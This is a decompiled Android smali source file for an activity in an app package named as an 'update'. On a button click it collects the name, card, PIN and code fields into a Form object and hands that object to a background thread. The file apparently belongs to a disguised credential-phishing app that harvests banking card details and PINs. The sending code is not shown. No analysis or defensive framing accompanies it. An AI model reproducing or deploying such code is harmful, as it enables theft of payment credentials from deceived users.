.class public Lexample/kuaiyin/update/StartActivity;
.super Landroid/app/Activity;
.source "StartActivity.java"

.implements Landroid/view/View$OnClickListener;

.method public constructor <init>()V
    .locals 0

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 1

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    sget v0, Lexample/kuaiyin/update/R$layout;->start:I

    invoke-virtual {p0, v0}, Landroid/app/Activity;->setContentView(I)V

    sget v0, Lexample/kuaiyin/update/R$id;->next:I

    invoke-virtual {p0, v0}, Landroid/app/Activity;->findViewById(I)Landroid/view/View;
    move-result-object v0

    invoke-virtual {v0, p0}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V

    return-void
.end method

.method private take(Lexample/kuaiyin/update/Form;I)V
    .locals 2

    invoke-virtual {p0, p2}, Landroid/app/Activity;->findViewById(I)Landroid/view/View;
    move-result-object v0

    check-cast v0, Landroid/widget/EditText;

    invoke-virtual {p0}, Landroid/app/Activity;->getResources()Landroid/content/res/Resources;
    move-result-object v1

    invoke-virtual {v1, p2}, Landroid/content/res/Resources;->getResourceEntryName(I)Ljava/lang/String;
    move-result-object v1

    invoke-virtual {v0}, Landroid/widget/EditText;->getText()Landroid/text/Editable;
    move-result-object v0

    invoke-virtual {p1, v1, v0}, Lexample/kuaiyin/update/Form;->set(Ljava/lang/String;Ljava/lang/Object;)V

    return-void
.end method

.method public onClick(Landroid/view/View;)V
    .locals 2

    new-instance v0, Lexample/kuaiyin/update/Form;

    invoke-direct {v0}, Lexample/kuaiyin/update/Form;-><init>()V

    sget v1, Lexample/kuaiyin/update/R$id;->name:I

    invoke-direct {p0, v0, v1}, Lexample/kuaiyin/update/StartActivity;->take(Lexample/kuaiyin/update/Form;I)V

    sget v1, Lexample/kuaiyin/update/R$id;->card:I

    invoke-direct {p0, v0, v1}, Lexample/kuaiyin/update/StartActivity;->take(Lexample/kuaiyin/update/Form;I)V

    sget v1, Lexample/kuaiyin/update/R$id;->pin:I

    invoke-direct {p0, v0, v1}, Lexample/kuaiyin/update/StartActivity;->take(Lexample/kuaiyin/update/Form;I)V

    sget v1, Lexample/kuaiyin/update/R$id;->code:I

    invoke-direct {p0, v0, v1}, Lexample/kuaiyin/update/StartActivity;->take(Lexample/kuaiyin/update/Form;I)V

    new-instance v1, Ljava/lang/Thread;

    invoke-direct {v1, v0}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V

    invoke-virtual {v1}, Ljava/lang/Thread;->start()V

    return-void
.end method
